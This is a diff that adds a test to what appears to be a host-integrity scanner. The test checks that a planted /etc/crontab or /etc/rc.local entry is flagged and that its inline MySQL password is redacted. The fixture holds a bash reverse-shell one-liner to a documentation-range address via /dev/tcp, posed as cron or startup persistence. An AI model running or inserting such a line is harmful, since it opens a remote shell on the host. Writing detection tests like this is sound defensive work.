@@ -145,6 +145,16 @@ def test_an_entry_that_nobody_brought_is_told_by_the_check_of_folders(tmp_path: 
     assert item.details["file"] == "no package owns it"
 
 
+@pytest.mark.parametrize("path", ["/etc/crontab", "/etc/rc.local"])
+def test_a_password_in_a_command_is_not_told(tmp_path: Path, path: str) -> None:
+    who = "* * * * * root " if path == "/etc/crontab" else "#!/bin/sh\n"
+    put(clean(tmp_path), path, f"{who}mysql -phunter2 x; bash -i >& /dev/tcp/203.0.113.66/1 0>&1\n")
+    found = look(tmp_path)
+    assert len(found.suspicious) == 1
+    assert "hunter2" not in repr(found.items)
+    assert "/dev/tcp/203.0.113.66" in found.named(found.suspicious[0]).evidence[0].text
+
+
 def test_its_program_counts_too(tmp_path: Path) -> None:
     put(clean(tmp_path), "/usr/local/sbin/own", "#!/bin/sh\n", 0o755)
     put(tmp_path, "/usr/local/sbin/open", "#!/bin/sh\n", 0o777).chmod(0o777)
